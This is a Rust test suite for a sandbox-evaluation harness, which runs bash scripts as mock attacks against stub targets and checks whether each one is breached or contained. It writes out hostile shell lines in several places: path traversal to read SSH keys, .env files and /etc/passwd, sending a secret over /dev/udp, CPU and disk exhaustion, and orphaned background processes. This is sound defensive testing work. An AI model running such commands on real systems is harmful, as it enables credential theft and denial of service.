//! Whole trials with a shell for a sandbox. The supervisor is this program, started again; so is the test run itself, in a directory for
//! temporary files of its own, which has to be empty at the end.

#![expect(clippy::unwrap_used, clippy::print_stdout, reason = "a test")]

use std::os::unix::process::{CommandExt as _, ExitStatusExt as _};
use std::path::Path;
use std::process::{Command, ExitCode, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use gauntlet_corpus::{Attack, Channel, Kind, Live, Obtains, Packet, Quantity, Region, World};
use gauntlet_policy::{Policy, Reader, Span, Stdin, document};
use gauntlet_record::{
    Cause, DenialKind, Ending, Layer, LimitKey, MutationScore, Record, Role, Run, Trial, Verdict, Why,
};
use gauntlet_runner::{Launcher, Mistake, Options, Plan, Progress, TargetChoice, TargetPlan, run, selftest, serve};
use gauntlet_target::{DenialSeen, Description, EndingSeen, Job, Outcome, Target, TargetError};

/// A shell that runs the guest as a script. `OPEN` is set where the policy lets standard input through: the protection of these tests.
struct Shell {
    name: String,
}

impl Target for Shell {
    fn describe(&self) -> Description {
        Description {
            name: self.name.clone(),
            engine: "bash".into(),
            version: "0".into(),
            offers: vec!["preview1".into()],
        }
    }

    fn run(&self, job: &Job) -> Result<Outcome, TargetError> {
        match self.name.as_str() {
            "idle" => return Ok(Outcome::default()),
            "panics" => panic!("on purpose"),
            _ => {}
        }
        let opened = job.policy.grants.stdin.value == Stdin::Inherit || self.name == "broken";
        let grants = &job.policy.grants.filesystem;
        let host = |index: usize| grants.get(index).map_or("", |grant| grant.host.value.as_str());
        let mut command = Command::new("/bin/bash");
        command.arg("-c").arg(String::from_utf8_lossy(&job.guest).as_ref()).arg("guest").arg(&job.nonce);
        command
            .env("OPEN", if opened { "1" } else { "" })
            .env("FIRST", host(0))
            .env("LAST", host(grants.len().saturating_sub(1)));
        if self.name == "inherits" {
            command.stdout(Stdio::inherit()).stderr(Stdio::inherit());
        } else {
            command.stdout(Stdio::piped()).stderr(Stdio::piped());
        }
        let failed = |what| move |source| TargetError::Io { what, source };
        let child = command.spawn().map_err(failed("start the shell"))?;
        let output = child.wait_with_output().map_err(failed("wait for the shell"))?;
        let ending = match output.status.signal() {
            Some(signal) => EndingSeen { ending: Ending::WorkerDied, signal: Some(signal), ..EndingSeen::default() },
            None if self.name == "lies" => {
                EndingSeen::caused(Ending::LimitReached, Cause::Limit(LimitKey::Deadline), "")
            }
            None => EndingSeen { ending: Ending::Exited, exit_code: output.status.code(), ..EndingSeen::default() },
        };
        let denied = !opened && self.name == "shell";
        let denial =
            DenialSeen { cause: Cause::Denied(DenialKind::Path), asked: "../outside".into(), limit: None, count: 1 };
        Ok(Outcome {
            ending,
            stdout: output.stdout,
            stderr: output.stderr,
            denials: denied.then_some(denial).into_iter().collect(),
            ..Outcome::default()
        })
    }
}

fn make(choice: &TargetChoice) -> Result<Box<dyn Target>, String> {
    let name = match choice {
        TargetChoice::Custom { lift, .. } if lift.iter().any(|id| id == "filesystem") => "broken".to_owned(),
        TargetChoice::Custom { name, .. } => name.clone(),
        TargetChoice::Worker { .. } | TargetChoice::Weakened { backstops: true, .. } => "shell".to_owned(),
        TargetChoice::Weakened { name, .. } => name.clone(),
        TargetChoice::Guests { .. } | TargetChoice::Inline { .. } | TargetChoice::Command { .. } => {
            return Err("no such target".to_owned());
        }
    };
    Ok(Box::new(Shell { name }))
}

/// Finds an escape character in what a record says of standard output.
fn payloads(record: &Record) -> (Vec<String>, u64) {
    let raw = record.trials.iter().flat_map(|trial| &trial.runs).any(|run| run.stdout.as_str().contains('\x1b'));
    (if raw { vec!["raw-control".into()] } else { Vec::new() }, 1)
}

const BENIGN: &str = "echo \"$1\" | rev";
const FIXTURES: &str = "grants:\n  filesystem:\n    - { host: granted, guest: /g, access: read-write }\n    - { host: readonly, guest: /r, access: read-only }\n";

fn part(text: &str) -> Policy {
    Reader::default().policy(&document::parse(text).unwrap(), false)
}

fn attack(script: &str, obtains: Obtains) -> Attack {
    Attack {
        id: "test/attack".into(),
        class: "test".into(),
        title: "An attack".into(),
        why: "It matters.".into(),
        weakness: "CWE-0".into(),
        kind: Kind::Input,
        world: World::Preview1,
        layers: Vec::new(),
        requires: Vec::new(),
        alone: false,
        policy: part(FIXTURES),
        language: None,
        entry: None,
        obtains,
        obtains_text: "what it wants".into(),
        contained_by: vec![Cause::Denied(DenialKind::Path)],
        live: Live::Overlay(Box::new(part("grants: { stdin: inherit }\n"))),
        attack: script.as_bytes().to_vec(),
        benign: BENIGN.as_bytes().to_vec(),
        references: Vec::new(),
        subjects: vec!["grants.filesystem".into()],
        file: "attack.yaml".into(),
        span: Span::default(),
    }
}

fn plan(attacks: Vec<Attack>, target: &str) -> Plan {
    let choice = TargetChoice::Custom { name: target.to_owned(), lift: Vec::new() };
    let description = Shell { name: target.to_owned() }.describe();
    let policy = Policy::parse("test", "version: 1\n").unwrap();
    Plan {
        attacks,
        targets: vec![TargetPlan { choice, description }],
        reference: None,
        policy,
        options: Options::default(),
    }
}

fn launcher() -> Launcher {
    Launcher { program: std::env::current_exe().unwrap(), args: vec!["trial".into()] }
}

fn trials(plan: &Plan) -> Vec<Trial> {
    run(plan, &launcher(), &mut |_| {}, &AtomicBool::new(false)).unwrap()
}

fn trial(plan: &Plan) -> Trial {
    let mut trials = trials(plan);
    assert_eq!(trials.len(), 1);
    trials.remove(0)
}

/// The attack's own run on a target without any protection.
fn attacked(script: &str, obtains: Obtains) -> (Trial, Run) {
    let trial = trial(&plan(vec![attack(script, obtains)], "open"));
    let run = trial.run(Role::Attack).unwrap_or_else(|| panic!("no run: {}", trial.reason)).clone();
    (trial, run)
}

fn a_canary_is_seen_wherever_it_comes_from() {
    let sources = [
        "cat \"$FIRST/../outside/secret.txt\"",
        "rev \"$FIRST/../etc/hostname\"",
        "echo \"$GAUNTLET_CANARY\"",
        "cat",
        "for f in /proc/self/fd/*; do case $(readlink $f) in *secret.txt) cat $f;; esac; done",
        "echo \"$FIRST\"",
    ];
    for script in sources {
        let (trial, run) = attacked(script, Obtains::Canary(Channel::Stdout));
        assert_eq!(run.measured.canaries, ["stdout"], "{script}: {:?}", run.stdout);
        assert_eq!((trial.verdict, trial.why), (Verdict::Breached, Why::Obtained));
    }
    let (_, run) = attacked("cat $FIRST/../root/.ssh/id_ed25519 >&2", Obtains::Canary(Channel::Stderr));
    assert_eq!(run.measured.canaries, ["stderr"]);
    let (_, run) = attacked("cat $FIRST/../work/.env > $FIRST/mine", Obtains::Canary(Channel::Files));
    assert_eq!(run.measured.canaries, ["files"]);
    assert!(run.obtained);
}

fn what_a_program_inherits_counts_as_the_guests_and_forges_no_answer() {
    let script = "echo '{\"failed\":\"forged\"}'; cat $FIRST/../outside/secret.txt";
    let trial = trial(&plan(vec![attack(script, Obtains::Canary(Channel::Stdout))], "inherits"));
    let run = trial.run(Role::Attack).unwrap();
    assert_eq!(run.measured.canaries, ["stdout"]);
    assert_eq!(run.measured.output, Some(53));
    assert_eq!(trial.verdict, Verdict::Breached);
}

fn changes_are_told_apart() {
    let (trial, run) = attacked("echo x > $FIRST/../outside/new", Obtains::Changed(Region::Outside));
    let changed: Vec<&str> = run.measured.changed.iter().map(gauntlet_record::GuestText::as_str).collect();
    assert_eq!(changed, ["outside: outside", "outside: outside/new"]);
    assert_eq!(trial.verdict, Verdict::Breached);
    let (_, run) = attacked("touch -d 2001-01-01 $LAST/input.txt", Obtains::Changed(Region::ReadOnly));
    assert_eq!(run.measured.changed[0].as_str(), "read-only: readonly/input.txt");
    assert!(run.obtained);
    let (_, run) = attacked("echo x > $FIRST/new", Obtains::Changed(Region::Outside));
    assert_eq!((run.measured.changed.len(), run.obtained), (0, false));
}

fn files_and_disk_under_the_grant_are_counted() {
    let script = "mkdir $FIRST/d; head -c 1048576 /dev/zero > $FIRST/d/file";
    let (_, run) = attacked(script, Obtains::Canary(Channel::Stdout));
    assert_eq!(run.measured.files, Some(2));
    assert!(run.measured.disk >= Some(1 << 20));
    // Unlinked and still open: no walk sees it afterwards.
    let script = "exec 9> $FIRST/file; rm $FIRST/file; head -c 8388608 /dev/zero >&9; while :; do :; done";
    let (_, run) = attacked(script, Obtains::Above(Quantity::Disk, 4 << 20));
    assert!(run.obtained, "{:?}", run.measured);
}

fn memory_and_processes_are_measured() {
    let script = "head -c 100000000 /dev/zero | tail | cat >/dev/null";
    let (_, run) = attacked(script, Obtains::Above(Quantity::Memory, 64 << 20));
    assert!(run.obtained, "{:?}", run.measured);
    let (_, run) = attacked("sleep 1000 | sleep 1000 | sleep 1000 | cat", Obtains::Above(Quantity::Processes, 3));
    assert!(run.obtained, "{:?}", run.measured);
    let (_, run) = attacked(
        "for i in 11 12 13 14 15 16; do eval \"exec $i</dev/null\"; done; cat <(sleep 1000)",
        Obtains::Above(Quantity::OpenFiles, 4),
    );
    assert!(run.obtained, "{:?}", run.measured);
}

fn cpu_time_is_measured_and_ends_the_run_once_it_is_obtained() {
    let (trial, run) = attacked("while :; do :; done", Obtains::Above(Quantity::CpuTime, 100_000_000));
    assert!(run.measured.cpu_time >= Some(100_000_000));
    assert!(!run.measured.watchdog);
    assert_eq!(run.end.detail.unwrap().as_str(), "ended by the harness: the attack had what it wanted");
    assert_eq!(trial.verdict, Verdict::Breached);
}

fn a_process_that_is_left_over_is_killed_and_noted() {
    let (_, run) = attacked("sleep 1000 >/dev/null 2>&1 & disown", Obtains::Canary(Channel::Stdout));
    let noted: Vec<&str> = run.measured.changed.iter().map(gauntlet_record::GuestText::as_str).collect();
    assert_eq!(noted, ["process left over: sleep"]);
}

fn a_left_over_process_that_still_works_is_measured_until_it_obtains() {
    let script = "(while :; do :; done) >/dev/null 2>&1 & disown";
    let (_, run) = attacked(script, Obtains::Above(Quantity::CpuTime, 500_000_000));
    assert!(run.obtained, "{:?}", run.measured);
}

fn the_watchdog_ends_a_whole_tree_and_proves_nothing() {
    let mut plan = plan(
        vec![attack(
            "[ $OPEN ] && cat $FIRST/../outside/secret.txt || sleep 1000 | (sleep 1000; cat)",
            Obtains::Canary(Channel::Stdout),
        )],
        "shell",
    );
    plan.options.watchdog = Duration::from_millis(400);
    let trial = trial(&plan);
    assert!(trial.run(Role::Attack).unwrap().measured.watchdog);
    assert!(trial.witnessed);
    assert_eq!((trial.verdict, trial.why), (Verdict::Inconclusive, Why::OtherCause));
}

fn a_live_control_that_meets_the_ceiling_is_too_large() {
    let script = "[ $OPEN ] && head -c 200000000 /dev/zero | tail | cat >/dev/null; :";
    let mut plan = plan(vec![attack(script, Obtains::Above(Quantity::Memory, 1 << 30))], "shell");
    plan.options.max_memory = 64 << 20;
    let trial = trial(&plan);
    assert!(trial.run(Role::Live).unwrap().measured.ceiling);
    assert_eq!((trial.verdict, trial.why), (Verdict::Inconclusive, Why::TooLarge));
}

fn a_grant_of_the_root_is_imitated() {
    let mut plan = plan(vec![attack("cat $LAST/etc/passwd", Obtains::Canary(Channel::Stdout))], "open");
    let text = "version: 1\ngrants:\n  filesystem:\n    - { host: /, guest: /host, access: read-only }\n";
    plan.policy = Policy::parse("test", text).unwrap();
    let trial = trial(&plan);
    // The real file holds no canary.
    assert_eq!(trial.verdict, Verdict::Breached);
    assert_eq!(trial.run(Role::Attack).unwrap().measured.canaries, ["stdout"]);
}

fn packets_to_the_watched_listener_are_seen() {
    let script = "exec 9<>/dev/tcp/127.0.0.1/$((0x${1:12}))";
    let (trial, run) = attacked(script, Obtains::Packet(Packet::Tcp));
    assert_eq!(run.measured.packets, ["tcp"]);
    assert_eq!(trial.verdict, Verdict::Breached);
    let (_, run) = attacked(
        "cat $FIRST/../outside/secret.txt > /dev/udp/127.0.0.1/$((0x${1:12}))",
        Obtains::Canary(Channel::Network),
    );
    assert_eq!((run.measured.packets, run.measured.canaries), (vec!["udp".to_owned()], vec!["network".to_owned()]));
}

const GUARDED: &str = "[ $OPEN ] && cat $FIRST/../outside/secret.txt; :";

fn an_attack_is_contained_when_all_three_runs_agree() {
    let trial = trial(&plan(vec![attack(GUARDED, Obtains::Canary(Channel::Stdout))], "shell"));
    assert_eq!(
        (trial.verdict, trial.why, trial.witnessed),
        (Verdict::Contained, Why::Stopped, true),
        "{}",
        trial.reason
    );
    assert_eq!((trial.cause, trial.layer), (Some(Cause::Denied(DenialKind::Path)), Some(Layer::Grants)));
    let roles: Vec<Role> = trial.runs.iter().map(|run| run.role).collect();
    assert_eq!(roles, [Role::Attack, Role::Live, Role::Benign]);
}

fn a_linked_in_sandbox_leaves_out_what_a_control_lifts() {
    let mut attack = attack(GUARDED, Obtains::Canary(Channel::Stdout));
    attack.live = Live::Lift(vec!["filesystem".into()]);
    let held = trial(&plan(vec![attack.clone()], "shell"));
    assert_eq!((held.verdict, held.witnessed), (Verdict::Contained, true), "{}", held.reason);
    assert_eq!(held.run(Role::Live).unwrap().witnessed_on, None);
    attack.live = Live::Lift(vec!["network".into()]);
    let kept = trial(&plan(vec![attack], "shell"));
    assert_eq!((kept.verdict, kept.why), (Verdict::Inconclusive, Why::LiveFailed));
}

fn a_silent_target_contains_weakly() {
    let trial = trial(&plan(vec![attack(GUARDED, Obtains::Canary(Channel::Stdout))], "silent"));
    assert_eq!(
        (trial.verdict, trial.why, trial.cause),
        (Verdict::Contained, Why::StoppedSilently, Some(Cause::NotShown)),
        "{}",
        trial.reason
    );
}

fn a_target_that_runs_nothing_contains_nothing() {
    let mut idle = plan(vec![attack(GUARDED, Obtains::Canary(Channel::Stdout))], "idle");
    assert_eq!(trial(&idle).why, Why::LiveFailed);
    idle.attacks[0].live = Live::None("for the test".into());
    let trial = trial(&idle);
    assert_eq!((trial.verdict, trial.why), (Verdict::Inconclusive, Why::BenignFailed));
}

fn a_dead_host_is_a_breach() {
    let (trial, run) = attacked("kill -SEGV $$", Obtains::Canary(Channel::Stdout));
    assert_eq!(run.measured.host_death.as_deref(), Some("SIGSEGV"));
    assert_eq!((trial.verdict, trial.why), (Verdict::Breached, Why::HostDied));
}

fn a_limit_that_the_clock_does_not_bear_out_is_a_disagreement() {
    let mut plan = plan(vec![attack(":", Obtains::Canary(Channel::Stdout))], "lies");
    plan.attacks[0].contained_by = vec![Cause::Limit(LimitKey::Deadline)];
    plan.attacks[0].live = Live::None("for the test".into());
    let trial = trial(&plan);
    assert_eq!((trial.verdict, trial.why), (Verdict::Inconclusive, Why::Disagrees));
}

fn a_target_that_panics_is_an_error_of_the_harness() {
    let trial = trial(&plan(vec![attack(":", Obtains::Canary(Channel::Stdout))], "panics"));
    assert_eq!((trial.verdict, trial.why), (Verdict::Inconclusive, Why::HarnessError));
    assert!(trial.reason.contains("on purpose"), "{}", trial.reason);
}

fn lifted_escaping_reaches_a_report_and_no_record() {
    let mut plan =
        plan(vec![attack("printf '\\033[31mred'", Obtains::Report(gauntlet_corpus::Injection::RawControl))], "shell");
    plan.attacks[0].contained_by = vec![Cause::EscapedText];
    plan.attacks[0].live = Live::Lift(vec!["escaping".into()]);
    let trial = trial(&plan);
    assert_eq!(
        (trial.verdict, trial.cause, trial.witnessed),
        (Verdict::Contained, Some(Cause::EscapedText), true),
        "{}",
        trial.reason
    );
    assert_eq!(trial.run(Role::Live).unwrap().stdout.as_str(), "\\u{1b}[31mred");
}

fn trials_come_back_in_corpus_order() {
    let mut attacks: Vec<Attack> = (0..6)
        .map(|n| Attack { id: format!("test/{n}"), ..attack(GUARDED, Obtains::Canary(Channel::Stdout)) })
        .collect();
    attacks[0].alone = true;
    attacks[3].requires = vec!["threads".into()];
    let mut plan = plan(attacks, "shell");
    plan.options.jobs = 3;
    plan.options.skip = vec![("shell".into(), "test/5".into())];
    let found: Vec<(String, Verdict)> = trials(&plan).into_iter().map(|trial| (trial.attack, trial.verdict)).collect();
    let expected = [
        ("test/0", Verdict::Contained),
        ("test/1", Verdict::Contained),
        ("test/2", Verdict::Contained),
        ("test/3", Verdict::Unsupported),
        ("test/4", Verdict::Contained),
    ];
    assert_eq!(found, expected.map(|(id, verdict)| (id.to_owned(), verdict)));
}

fn a_cancelled_run_leaves_nothing_behind() {
    let dir = tempfile::tempdir().unwrap();
    let pipe = dir.path().join("pipe");
    assert!(Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    let plan = plan(
        vec![attack(&format!("echo $BASHPID > {}; sleep 1000", pipe.display()), Obtains::Canary(Channel::Stdout))],
        "open",
    );
    let cancel = AtomicBool::new(false);
    let (trials, guest) = std::thread::scope(|scope| {
        let reader = scope.spawn(|| {
            let guest = std::fs::read_to_string(&pipe).unwrap();
            cancel.store(true, Ordering::Relaxed);
            guest
        });
        let trials = run(&plan, &launcher(), &mut |_| {}, &cancel).unwrap();
        (trials, reader.join().unwrap())
    });
    assert!(trials.is_empty());
    let state = std::fs::read_to_string(format!("/proc/{}/stat", guest.trim()));
    assert!(state.is_err() || state.unwrap().contains(") Z "), "the guest lives");
}

fn a_broken_executor_is_caught_and_its_backstop_named() {
    let attacks = vec![attack(GUARDED, Obtains::Canary(Channel::Stdout))];
    let plan = Plan { ..plan(attacks, "shell") };
    let reference = trials(&plan);
    let mistake = |name: &str| Mistake {
        name: name.into(),
        sentence: "On purpose.".into(),
        unescaped: false,
        offers: vec!["preview1".into()],
        left_out: Vec::new(),
        judge: None,
    };
    let mistakes = [mistake("broken"), mistake("idle"), mistake("shell")];
    let mut seen = 0;
    let mut progress = |event: Progress<'_>| seen += u32::from(matches!(event, Progress::Mutation { .. }));
    let score =
        selftest(&plan, &reference, &mistakes, false, &launcher(), &mut progress, &AtomicBool::new(false)).unwrap();
    assert_eq!((score.caught, score.total, seen), (2, 3, 3));
    let caught: Vec<Verdict> =
        score.mutations.iter().flat_map(|mutation| &mutation.caught_by).map(|by| by.verdict).collect();
    assert_eq!(caught, [Verdict::Breached, Verdict::Inconclusive]);
    assert_eq!(score.mutations[0].backstopped[0].layer, Layer::Grants);
    assert!(!score.mutations[2].caught);
    // In a hurry the same are caught: one attack is enough.
    let quick =
        selftest(&plan, &reference, &mistakes, true, &launcher(), &mut |_| (), &AtomicBool::new(false)).unwrap();
    let caught = |score: &MutationScore| score.mutations.iter().map(|mutation| mutation.caught).collect::<Vec<_>>();
    assert_eq!(caught(&quick), caught(&score));
}

const TESTS: &[(&str, fn())] = &[
    ("a_canary_is_seen_wherever_it_comes_from", a_canary_is_seen_wherever_it_comes_from),
    (
        "what_a_program_inherits_counts_as_the_guests_and_forges_no_answer",
        what_a_program_inherits_counts_as_the_guests_and_forges_no_answer,
    ),
    ("changes_are_told_apart", changes_are_told_apart),
    ("files_and_disk_under_the_grant_are_counted", files_and_disk_under_the_grant_are_counted),
    ("memory_and_processes_are_measured", memory_and_processes_are_measured),
    (
        "cpu_time_is_measured_and_ends_the_run_once_it_is_obtained",
        cpu_time_is_measured_and_ends_the_run_once_it_is_obtained,
    ),
    ("a_process_that_is_left_over_is_killed_and_noted", a_process_that_is_left_over_is_killed_and_noted),
    (
        "a_left_over_process_that_still_works_is_measured_until_it_obtains",
        a_left_over_process_that_still_works_is_measured_until_it_obtains,
    ),
    ("the_watchdog_ends_a_whole_tree_and_proves_nothing", the_watchdog_ends_a_whole_tree_and_proves_nothing),
    ("a_live_control_that_meets_the_ceiling_is_too_large", a_live_control_that_meets_the_ceiling_is_too_large),
    ("a_grant_of_the_root_is_imitated", a_grant_of_the_root_is_imitated),
    ("packets_to_the_watched_listener_are_seen", packets_to_the_watched_listener_are_seen),
    ("an_attack_is_contained_when_all_three_runs_agree", an_attack_is_contained_when_all_three_runs_agree),
    ("a_linked_in_sandbox_leaves_out_what_a_control_lifts", a_linked_in_sandbox_leaves_out_what_a_control_lifts),
    ("a_silent_target_contains_weakly", a_silent_target_contains_weakly),
    ("a_target_that_runs_nothing_contains_nothing", a_target_that_runs_nothing_contains_nothing),
    ("a_dead_host_is_a_breach", a_dead_host_is_a_breach),
    (
        "a_limit_that_the_clock_does_not_bear_out_is_a_disagreement",
        a_limit_that_the_clock_does_not_bear_out_is_a_disagreement,
    ),
    ("a_target_that_panics_is_an_error_of_the_harness", a_target_that_panics_is_an_error_of_the_harness),
    ("lifted_escaping_reaches_a_report_and_no_record", lifted_escaping_reaches_a_report_and_no_record),
    ("trials_come_back_in_corpus_order", trials_come_back_in_corpus_order),
    ("a_cancelled_run_leaves_nothing_behind", a_cancelled_run_leaves_nothing_behind),
    ("a_broken_executor_is_caught_and_its_backstop_named", a_broken_executor_is_caught_and_its_backstop_named),
];

/// Set in the run that has a directory of its own.
const INNER: &str = "GAUNTLET_TEST_INNER";

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if let [command, spec] = args.as_slice()
        && command == "trial"
    {
        return if serve(Path::new(spec), &make, &payloads).is_ok() { ExitCode::SUCCESS } else { ExitCode::FAILURE };
    }
    if args.iter().any(|arg| arg == "--list") {
        TESTS.iter().for_each(|(name, _)| println!("{name}: test"));
        return ExitCode::SUCCESS;
    }
    if std::env::var_os(INNER).is_none() {
        let dir = tempfile::tempdir().unwrap();
        let status = Command::new(std::env::current_exe().unwrap())
            .args(&args)
            .env("TMPDIR", dir.path())
            .env(INNER, "1")
            .process_group(0)
            .status();
        let left: Vec<_> = std::fs::read_dir(dir.path())
            .unwrap()
            .flatten()
            .flat_map(|home| std::fs::read_dir(home.path()).unwrap().flatten())
            .collect();
        assert!(left.is_empty(), "left behind: {left:?}");
        return if status.unwrap().success() { ExitCode::SUCCESS } else { ExitCode::FAILURE };
    }
    let wanted =
        |name: &str| args.iter().filter(|arg| !arg.starts_with('-')).all(|filter| name.contains(filter.as_str()));
    let mut failed = 0;
    for (name, test) in TESTS.iter().filter(|(name, _)| wanted(name)) {
        let held = std::panic::catch_unwind(test).is_ok();
        println!("test {name} ... {}", if held { "ok" } else { "FAILED" });
        failed += u32::from(!held);
    }
    if failed == 0 { ExitCode::SUCCESS } else { ExitCode::FAILURE }
}
